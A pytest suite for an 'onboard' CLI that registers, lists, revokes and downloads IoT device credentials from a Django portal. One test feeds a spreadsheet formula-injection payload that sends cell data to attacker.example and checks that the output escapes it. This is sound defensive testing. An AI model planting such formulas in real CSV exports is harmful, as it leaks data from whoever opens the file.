"""The `onboard` CLI against a live portal (pytest-django's live_server): every command and exit code."""

from __future__ import annotations

import csv
import json
import stat
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import pyzipper

from devices.models import Device
from onboard_cli.main import main
from tests.support.helpers import make_csr, openssl_csr

pytestmark = pytest.mark.django_db(transaction=True)


@dataclass
class Portal:
    url: str
    token: str

    def run(self, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
        code = main(["--url", self.url, "--token", self.token, *args])
        captured = capsys.readouterr()
        return code, captured.out, captured.err


@pytest.fixture
def portal(portal: str) -> Portal:
    """The live portal (conftest's `portal`: session CA, this test's broker files) with the broker
    files written, and an API token of a superuser (the roles are tested in test_api_permissions)."""
    from django.contrib.auth.models import User

    from accounts.services import create_api_token
    from broker.sync import sync_broker

    sync_broker()
    user = User.objects.create_superuser("factory", password="a-long-test-password")
    return Portal(url=portal, token=create_api_token(user).value)


def open_zip(path: Path, password: str) -> dict[str, bytes]:
    with pyzipper.AESZipFile(path) as archive:
        archive.setpassword(password.encode())
        return {name: archive.read(name) for name in archive.namelist()}


def test_register_prints_the_link_and_password_once(portal: Portal, capsys: Any) -> None:
    code, out, err = portal.run(
        capsys, "register", "--name", "press-4", "--hardware-id", "HW-4", "--key-type", "ec-p256"
    )
    assert code == 0, err
    assert "Device       press-4" in out and "Password     " in out and "/download/" in out
    code, out, _ = portal.run(capsys, "--json", "register", "--name", "press-5", "--key-type", "ec-p256")
    answer = json.loads(out)
    assert code == 0 and answer["status"] == "active" and answer["bundle_password"]


def test_register_with_out_saves_a_private_zip(portal: Portal, capsys: Any, tmp_path: Path) -> None:
    target = tmp_path / "creds.zip"
    code, out, _ = portal.run(
        capsys, "--json", "register", "--name", "p", "--key-type", "ec-p256", "--out", str(target)
    )
    answer = json.loads(out)
    assert code == 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    files = open_zip(target, answer["bundle_password"])
    assert {"device.key", "device.crt", "ca.crt", "device.json", "README.txt"} == set(files)


def test_register_with_a_csr(portal: Portal, capsys: Any, tmp_path: Path) -> None:
    from cryptography.hazmat.primitives.asymmetric import ec

    csr_file = tmp_path / "device.csr"
    csr_file.write_bytes(make_csr(ec.generate_private_key(ec.SECP256R1())))
    code, out, _ = portal.run(capsys, "--json", "register", "--name", "own-key", "--csr", str(csr_file))
    assert code == 0 and json.loads(out)["certificate"]["key_type"] == "ec-p256"


def test_status_list_revoke_reissue(portal: Portal, capsys: Any) -> None:
    _, out, _ = portal.run(capsys, "--json", "register", "--name", "sensor-a", "--key-type", "ec-p256")
    device_id = json.loads(out)["id"]
    portal.run(capsys, "register", "--name", "sensor-b", "--key-type", "ec-p256")

    code, out, _ = portal.run(capsys, "status", device_id)
    assert code == 0 and f"sensor-a ({device_id})" in out and "active" in out

    code, out, _ = portal.run(capsys, "list")
    assert code == 0 and "NAME" in out and "sensor-a" in out and "2 device(s)" in out

    code, out, _ = portal.run(capsys, "--json", "reissue", device_id)
    assert code == 0 and json.loads(out)["bundle_password"]

    code, out, _ = portal.run(capsys, "revoke", device_id, "--reason", "keyCompromise")
    assert code == 0 and "revoked" in out and "keyCompromise" in out
    code, out, _ = portal.run(capsys, "--json", "list", "--status", "revoked")
    assert [device["id"] for device in json.loads(out)] == [device_id]

    code, _, err = portal.run(capsys, "revoke", device_id)
    assert code == 1 and "already revoked" in err and "409" in err


def test_download_once_by_link_and_fresh_by_id(portal: Portal, capsys: Any, tmp_path: Path) -> None:
    _, out, _ = portal.run(capsys, "--json", "register", "--name", "d", "--key-type", "ec-p256")
    answer = json.loads(out)
    code, _, _ = portal.run(capsys, "download", answer["download_url"], "--out", str(tmp_path / "a.zip"))
    assert code == 0 and open_zip(tmp_path / "a.zip", answer["bundle_password"])
    code, _, err = portal.run(capsys, "download", answer["download_url"], "--out", str(tmp_path / "b.zip"))
    assert code == 1 and "already used" in err
    code, out, _ = portal.run(capsys, "--json", "download", answer["id"], "--out", str(tmp_path / "c.zip"))
    fresh = json.loads(out)
    assert code == 0 and open_zip(tmp_path / "c.zip", fresh["bundle_password"])


def test_health(portal: Portal, capsys: Any) -> None:
    code, out, _ = portal.run(capsys, "health")
    assert code == 0 and "database" in out and "ok" in out


class TestExitCodes:
    def test_usage_error_is_2(self, portal: Portal, capsys: Any) -> None:
        with pytest.raises(SystemExit) as exited:
            main(["register"])
        assert exited.value.code == 2

    def test_server_error_is_1_with_its_message(self, portal: Portal, capsys: Any) -> None:
        code, _, err = portal.run(capsys, "status", "00000000-0000-4000-8000-000000000000")
        assert code == 1 and "No device has the id" in err and "Traceback" not in err

    def test_bad_token_is_1(self, portal: Portal, capsys: Any) -> None:
        code = main(["--url", portal.url, "--token", "iotp_wrong", "list"])
        assert code == 1 and "not valid" in capsys.readouterr().err

    def test_unreachable_is_3(self, capsys: Any) -> None:
        code = main(["--url", "http://127.0.0.1:1", "--token", "t", "list"])
        assert code == 3 and "Cannot reach the portal" in capsys.readouterr().err


def write_csv(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def read_results(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as handle:
        return list(csv.DictReader(handle))


class TestBulkRegister:
    def test_every_bad_row_is_reported_before_anything_is_registered(
        self, portal: Portal, capsys: Any, tmp_path: Path
    ) -> None:
        source = tmp_path / "batch.csv"
        source.write_text(
            "name,hardware_id,key_type,site\n"
            "ok-1,HW-1,ec-p256,Lyon\n"
            ",HW-2,ec-p256,Lyon\n"
            "ok-3,HW-1,ec-p256,Lyon\n"
            "ok-4,HW-4,dsa512,Lyon\n"
        )
        code, _, err = portal.run(capsys, "bulk-register", str(source))
        assert code == 2
        assert "line 3: name is empty" in err
        assert "line 4: hardware_id HW-1 repeats line 2" in err
        assert "line 5: key_type 'dsa512'" in err
        assert Device.objects.count() == 0

    def test_registers_concurrently_writes_private_results_and_resumes(
        self, portal: Portal, capsys: Any, tmp_path: Path
    ) -> None:
        rows = [
            {"name": f"unit-{i}", "hardware_id": f"SN-{i:04d}", "key_type": "ec-p256", "line_no": "A"}
            for i in range(8)
        ]
        first_half = write_csv(tmp_path / "first.csv", rows[:4])
        whole = write_csv(tmp_path / "whole.csv", rows)
        results = tmp_path / "results.csv"

        code, out, _ = portal.run(
            capsys, "bulk-register", str(first_half), "--out", str(results), "--concurrency", "3"
        )
        assert code == 0 and "4 registered" in out
        assert stat.S_IMODE(results.stat().st_mode) == 0o600

        # Interrupted after the first half: the rerun of the whole file skips what is done.
        code, out, _ = portal.run(capsys, "--json", "bulk-register", str(whole), "--out", str(results))
        summary = json.loads(out)
        assert code == 0 and summary["registered"] == 4 and summary["skipped"] == 4
        written = read_results(results)
        assert len(written) == 8 and all(row["status"] == "registered" for row in written)
        assert all(
            row["bundle_password"] and row["download_url"] and row["link_expires_at"] for row in written
        )
        assert Device.objects.count() == 8
        assert Device.objects.get(hardware_id="SN-0003").metadata == {"line_no": "A"}

        # Results lost: the idempotency keys bring back the first answers, no duplicates.
        results.unlink()
        code, out, _ = portal.run(capsys, "--json", "bulk-register", str(whole), "--out", str(results))
        assert code == 0 and json.loads(out)["registered"] == 8
        assert Device.objects.count() == 8
        assert {row["device_id"] for row in read_results(results)} == {
            str(pk) for pk in Device.objects.values_list("pk", flat=True)
        }

    def test_results_cannot_smuggle_a_formula_into_a_spreadsheet(
        self, portal: Portal, capsys: Any, tmp_path: Path
    ) -> None:
        formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
        rows = [
            {"name": formula, "hardware_id": "@SN-1", "key_type": "ec-p256"},
            {"name": "+plus", "hardware_id": "-minus", "key_type": "ec-p256"},
        ]
        results = tmp_path / "results.csv"
        code, _, _ = portal.run(
            capsys, "bulk-register", str(write_csv(tmp_path / "in.csv", rows)), "--out", str(results)
        )
        assert code == 0
        written = sorted(read_results(results), key=lambda row: int(row["line"]))
        assert [(row["name"], row["hardware_id"]) for row in written] == [
            ("'" + formula, "'@SN-1"),
            ("'+plus", "'-minus"),
        ]
        assert all(row["status"] == "registered" and row["bundle_password"] for row in written)
        assert Device.objects.filter(name=formula, hardware_id="@SN-1").exists()


def test_profile_file_is_private_and_used(
    portal: Portal, capsys: Any, tmp_path: Path, monkeypatch: Any
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.delenv("ONBOARD_URL", raising=False)
    monkeypatch.delenv("ONBOARD_TOKEN", raising=False)
    assert main(["configure", "--url", portal.url, "--token", portal.token]) == 0
    profile = tmp_path / "config" / "onboard" / "config.toml"
    assert stat.S_IMODE(profile.stat().st_mode) == 0o600
    capsys.readouterr()
    assert main(["list"]) == 0
    profile.chmod(0o644)
    assert main(["list"]) == 2
    assert "chmod 600" in capsys.readouterr().err


def test_installed_console_command(portal: Portal, tmp_path: Path) -> None:
    onboard = Path(sys.executable).parent / "onboard"
    result = subprocess.run(
        [str(onboard), "--url", portal.url, "--token", portal.token, "--json", "list"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout) == []
    broken = subprocess.run(
        [str(onboard), "--url", "http://127.0.0.1:1", "health"], capture_output=True, text=True
    )
    assert broken.returncode == 3 and "Traceback" not in broken.stderr


# Every command with the arguments it needs; the global options go before or after it.
COMMAND_LINES = {
    "register": ["register", "--name", "n"],
    "status": ["status", "DEVICE"],
    "list": ["list"],
    "revoke": ["revoke", "DEVICE"],
    "reissue": ["reissue", "DEVICE"],
    "download": ["download", "DEVICE", "--out", "x.zip"],
    "bulk-register": ["bulk-register", "rows.csv"],
    "health": ["health"],
}
GLOBAL_OPTIONS = ["--json", "--url", "http://portal.example:9000", "--token", "t0k", "--profile", "lab"]


@pytest.mark.django_db(transaction=False)
@pytest.mark.parametrize("command", sorted(COMMAND_LINES))
@pytest.mark.parametrize("placement", ["before", "after"])
def test_global_options_before_or_after_the_command(command: str, placement: str) -> None:
    from onboard_cli.main import build_parser

    line = COMMAND_LINES[command]
    argv = [*GLOBAL_OPTIONS, *line] if placement == "before" else [*line, *GLOBAL_OPTIONS]
    args = build_parser().parse_args(argv)
    assert (args.command, args.json, args.url, args.token, args.profile) == (
        command, True, "http://portal.example:9000", "t0k", "lab",
    )  # fmt: skip


@pytest.mark.django_db(transaction=False)
def test_configure_takes_json_and_profile_after_its_name() -> None:
    from onboard_cli.main import build_parser

    args = build_parser().parse_args(["configure", "--url", "u", "--token", "t", "--json", "--profile", "p"])
    # configure's own --url/--token are the values to save, not where to connect.
    assert (args.profile_url, args.profile_token, args.json, args.profile, args.url) == (
        "u",
        "t",
        True,
        "p",
        None,
    )


def test_list_json_after_the_command_against_the_portal(portal: Portal, capsys: Any) -> None:
    _, out, _ = portal.run(capsys, "--json", "register", "--name", "after-1", "--key-type", "ec-p256")
    device_id = json.loads(out)["id"]
    code = main(["list", "--json", "--url", portal.url, "--token", portal.token])
    listed = json.loads(capsys.readouterr().out)
    assert code == 0 and [device["id"] for device in listed] == [device_id]
    code = main(["status", device_id, "--url", portal.url, "--json", "--token", portal.token])
    assert code == 0 and json.loads(capsys.readouterr().out)["id"] == device_id


def test_register_with_a_refused_csr_names_the_reason(portal: Portal, capsys: Any, tmp_path: Path) -> None:
    csr = tmp_path / "sha1.csr"
    csr.write_text(openssl_csr(tmp_path, "sha1", ["-newkey", "rsa:2048", "-sha1"]))
    code, _, err = portal.run(capsys, "register", "--name", "old-tool", "--csr", str(csr))
    assert code == 1
    assert "SHA-1" in err and "400 csr_signature_algorithm_not_allowed" in err
    assert not Device.objects.exists()


def test_a_resumed_result_file_keeps_the_columns_it_was_begun_with(tmp_path: Path) -> None:
    """A file begun by an older `onboard` (without link_expires_at) gets rows that fit its header."""
    from onboard_cli.bulk import ResultWriter

    results = tmp_path / "results.csv"
    results.write_text("line,name,status,bundle_password\n2,a,registered,pw-a\n")
    writer = ResultWriter(results)
    writer.write(
        {"line": 3, "name": "b", "status": "registered", "bundle_password": "pw-b", "link_expires_at": "x"}
    )
    writer.close()
    assert results.read_text().splitlines() == [
        "line,name,status,bundle_password",
        "2,a,registered,pw-a",
        "3,b,registered,pw-b",
    ]
